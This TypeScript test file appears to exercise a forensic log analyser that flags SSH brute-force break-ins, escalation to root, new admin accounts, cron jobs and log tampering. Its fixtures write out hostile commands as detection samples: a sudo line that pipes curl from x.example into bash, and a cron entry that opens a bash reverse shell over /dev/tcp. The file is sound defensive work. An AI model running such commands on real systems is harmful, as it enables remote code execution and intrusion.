import { readFileSync } from 'node:fs';
import { gunzipSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { JournalParser } from '../../src/parsers/journal/journal-parser.js';
import { resultsOf, told } from './run.js';

const failures = (
  count: number,
  options: { readonly from?: string; readonly hour?: string; readonly user?: string } = {},
) => {
  const { from = '198.51.100.77', hour = '02', user = 'root' } = options;
  return Array.from({ length: count }, (_, index) => {
    const second = String(index % 60).padStart(2, '0');
    const minute = String(Math.floor(index / 60) % 60).padStart(2, '0');
    return `Nov 20 ${hour}:${minute}:${second} web sshd[99]: Failed password for ${user} from ${from} port 4242 ssh2`;
  });
};
const accepted = (time: string, from = '198.51.100.77', user = 'deploy') =>
  `Nov 20 ${time} web sshd[100]: Accepted password for ${user} from ${from} port 4242 ssh2`;

/** Time, as ISO 8601, and message of each entry. */
function entriesOf(bytes: Uint8Array): readonly { readonly at: string; readonly message: string }[] {
  const entries: { at: string; message: string }[] = [];
  const parser = new JournalParser({
    entry: ({ realtimeUs, fields }) =>
      entries.push({
        at: new Date(Number(realtimeUs / 1000n)).toISOString(),
        message: fields.get('MESSAGE')?.[0]?.toString('utf8') ?? '',
      }),
  });
  parser.push(bytes);
  return entries;
}

const log = (...lines: readonly (string | readonly string[])[]) => `${lines.flat().join('\n')}\n`;

describe('guessing over SSH', () => {
  it('is told with its success when that stands in the same file', async () => {
    const { bad } = await resultsOf({ 'fs/var/log/auth.log': log(failures(40), accepted('02:41:00')) });
    expect(told(bad)).toEqual([
      'log.ssh-brute-force-success user:deploy fs/var/log/auth.log:41',
      'log.ssh-brute-force ip:198.51.100.77 fs/var/log/auth.log:1',
    ]);
    expect(bad[0]).toMatchObject({ severity: 'critical', at: '2026-11-20T02:41:00.000Z' });
    expect(bad[0]?.title).toBe('deploy logged in from 198.51.100.77 by password after 40 failed attempts');
  });

  it.each(['older first', 'newer first'])('joins what rotation has cut (%s)', async (order) => {
    const older = ['fs/var/log/auth.log.1', log(failures(25))] as const;
    const newer = ['fs/var/log/auth.log', log(failures(15, { hour: '02' }), accepted('02:41:00'))] as const;
    const files = Object.fromEntries(order === 'older first' ? [older, newer] : [newer, older]);
    const { bad } = await resultsOf(files);
    expect(bad[0]?.title).toContain('after 40 failed attempts');
  });

  it('reads compressed rotations and counts repeated messages', async () => {
    const repeated =
      'Nov 20 02:00:01 web sshd[9]: message repeated 30 times: [ Failed password for root from 198.51.100.77 port 1 ssh2]';
    const { bad } = await resultsOf({ 'fs/var/log/secure-20261120.gz': gzipSync(log(repeated)) });
    expect(bad.map(({ title }) => title)).toEqual(['198.51.100.77 made 30 failed SSH attempts in 1 bursts']);
  });

  it('lets a person mistype, and the internet knock', async () => {
    const lines = log(
      failures(5, { from: '192.0.2.10' }),
      accepted('02:41:00', '192.0.2.10', 'admin'),
      failures(10, { from: '192.0.2.99' }),
    );
    expect((await resultsOf({ 'fs/var/log/auth.log': lines })).bad).toEqual([]);
  });

  it('is not a break-in when the login came days later, or from elsewhere', async () => {
    const later = log(
      failures(40),
      accepted('02:41:00', '192.0.2.10'),
      'Nov 20 02:50:00 web sshd[1]: Accepted publickey for x from 192.0.2.11 port 1 ssh2',
    );
    const { bad } = await resultsOf({ 'fs/var/log/auth.log': later });
    expect(bad.map(({ rule, severity }) => [rule, severity])).toEqual([['log.ssh-brute-force', 'low']]);
  });

  it('tells a login from an address of the finding, guessed or not', async () => {
    const { bad } = await resultsOf({ 'fs/var/log/auth.log': log(accepted('02:41:00', '203.0.113.66')) });
    expect(bad.map(({ rule }) => rule)).toEqual(['indicator.in-file', 'log.ssh-login-from-indicator']);
  });
});

describe('what an account did after the break-in', () => {
  const sudo = (time: string, user: string, command: string) =>
    `Nov 20 ${time} web sudo:   ${user} : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=${command}`;

  it('is told for the account that was broken into, and for it alone', async () => {
    const lines = log(
      failures(40),
      accepted('02:41:00'),
      sudo('02:42:00', 'deploy', '/usr/bin/su -'),
      sudo('02:43:00', 'admin', '/usr/bin/apt update'),
    );
    const { bad, events } = await resultsOf({ 'fs/var/log/auth.log': lines });
    const root = bad.filter(({ rule }) => rule === 'log.root-after-intrusion');
    expect(root.map(({ entity, excerpt }) => [entity, excerpt])).toEqual([['user:deploy', '/usr/bin/su -']]);
    expect(events.filter(({ kind }) => kind === 'privilege.used').length).toBe(1);
  });

  it('is an attempt where sudo refused, and no root', async () => {
    const refused =
      'Nov 20 02:42:00 web sudo:   deploy : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/su -';
    const lines = log(failures(40), accepted('02:41:00'), refused);
    const { bad } = await resultsOf({ 'fs/var/log/auth.log': lines });
    const [tried] = bad.filter(({ rule }) => rule === 'log.root-after-intrusion');
    expect([tried?.severity, tried?.title]).toEqual([
      'high',
      'deploy tried to become root after the break-in, and was refused',
    ]);
    const then = await resultsOf({
      'fs/var/log/auth.log': `${lines}${sudo('02:44:00', 'deploy', '/usr/bin/id')}\n`,
    });
    expect(then.bad.find(({ rule }) => rule === 'log.root-after-intrusion')?.severity).toBe('critical');
  });

  it('raises accounts made after it', async () => {
    const made =
      'Nov 20 03:00:00 web useradd[1]: new user: name=helper, UID=1005, GID=1005, home=/home/helper, shell=/bin/bash';
    const group = "Nov 20 03:00:01 web usermod[2]: add 'helper' to group 'sudo'";
    const after = await resultsOf({
      'fs/var/log/auth.log': log(failures(40), accepted('02:41:00'), made, group),
    });
    expect(
      after.bad
        .filter(({ entity }) => entity === 'user:helper')
        .map(({ rule, severity }) => [rule, severity]),
    ).toEqual([
      ['log.user-added', 'high'],
      ['log.added-to-admin-group', 'high'],
    ]);
    const quiet = await resultsOf({ 'fs/var/log/auth.log': log(made) });
    expect(quiet.bad).toEqual([]);
    expect(quiet.info.map(({ rule }) => rule)).toEqual(['log.user-added']);
  });

  it('tells suspicious commands by sudo whoever runs them', async () => {
    const { bad } = await resultsOf({
      'fs/var/log/auth.log': log(sudo('02:42:00', 'admin', '/bin/sh -c curl http://x.example/a | bash')),
    });
    expect(told(bad)).toEqual(['log.sudo-command user:admin fs/var/log/auth.log:1']);
  });
});

describe('what cron ran', () => {
  it('is told once for each command, with how often', async () => {
    const run = (minute: string) =>
      `Nov 20 02:${minute}:01 web CRON[7]: (root) CMD (bash -i >& /dev/tcp/192.0.2.9/443 0>&1)`;
    const { bad } = await resultsOf({ 'fs/var/log/syslog': log(run('10'), run('20'), run('30')) });
    expect(bad.map(({ rule, title }) => [rule, title])).toEqual([
      ['log.cron-command', 'Cron ran as root, 3 times: Shell tied to a network device of bash'],
    ]);
  });
});

describe('the systemd journal', () => {
  const journal = (name = 'plain') =>
    gunzipSync(readFileSync(new URL(`../parsers/fixtures/${name}.journal.gz`, import.meta.url)));
  const path = 'fs/var/log/journal/4f1d0c0a9e3b4c1c8a7d6e5f40302010/system.journal';

  it('is heard like a text log', async () => {
    const { bad } = await resultsOf({ [path]: journal('zstd-compact') });
    expect(told(bad)).toEqual([`log.ssh-brute-force ip:198.51.100.77 ${path}:1`]);
  });

  /** The journal's own lines of sshd, as rsyslog writes them. */
  const entries = entriesOf(journal());
  const asText = (lines: readonly number[]) =>
    lines.map((line) => `${entries[line]?.at} web-1 sshd[${2000 + line}]: ${entries[line]?.message}`);
  const sshd = Array.from({ length: 58 }, (_, index) => index * 7);

  it('says nothing twice that a text log has said', async () => {
    const both = await resultsOf({ [path]: journal(), 'fs/var/log/auth.log': log(asText(sshd)) });
    const text = await resultsOf({ 'fs/var/log/auth.log': log(asText(sshd)) });
    expect(both.bad.map(({ title }) => title)).toEqual(text.bad.map(({ title }) => title));
  });

  it('shows what somebody has cut out of a text log', async () => {
    const before = '2025-11-19T23:00:00Z web-1 sshd[9]: Connection closed by 192.0.2.9 port 1';
    const after = before.replace('19T23', '20T03');
    const kept = asText(sshd.filter((_, index) => index < 20 || index > 45));
    const { bad } = await resultsOf({
      [path]: journal(),
      'fs/var/log/auth.log': log(before, kept, after),
    });
    const missing = bad.filter(({ rule }) => rule === 'log.lines-missing');
    expect(missing.map(({ title }) => title)).toEqual([
      'The text logs lack 24 lines of sshd that the journal has',
    ]);
  });
});
